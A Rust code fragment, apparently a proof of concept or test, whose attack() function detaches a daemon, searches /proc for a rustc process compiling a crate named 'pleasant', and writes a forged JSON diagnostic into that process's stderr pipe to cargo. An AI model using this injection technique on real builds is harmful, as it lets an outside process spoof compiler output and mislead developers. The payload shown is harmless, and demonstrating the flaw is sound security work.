//! leaves a daemon that prints a diagnostic through the pipe on which rustc tells cargo its own
fn attack() -> Result<()> {
    if unsafe { fork() } != 0 {
        return Ok(());
    }
    unsafe { setsid() };
    for fd in 0..3 {
        unsafe extern "C" {
            fn close(fd: i32) -> i32;
        }
        unsafe { close(fd) };
    }
    let said = b"{\"$message_type\":\"diagnostic\",\"message\":\"forged by a stranger\",\"code\":null,\"level\":\"error\",\
        \"spans\":[],\"children\":[],\"rendered\":\"forged by a stranger\"}\n";
    let begun = Instant::now();
    while begun.elapsed() < Duration::from_secs(4) {
        for one in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let place = one.path();
            let words = fs::read(place.join("cmdline")).unwrap_or_default();
            if String::from_utf8_lossy(&words).contains("--crate-name\0pleasant\0") {
                if let Ok(mut output) = fs::OpenOptions::new().write(true).open(place.join("fd/2")) {
                    let _ = output.write_all(said);
                    std::process::exit(0);
                }
            }
        }
    }
    std::process::exit(0);
}
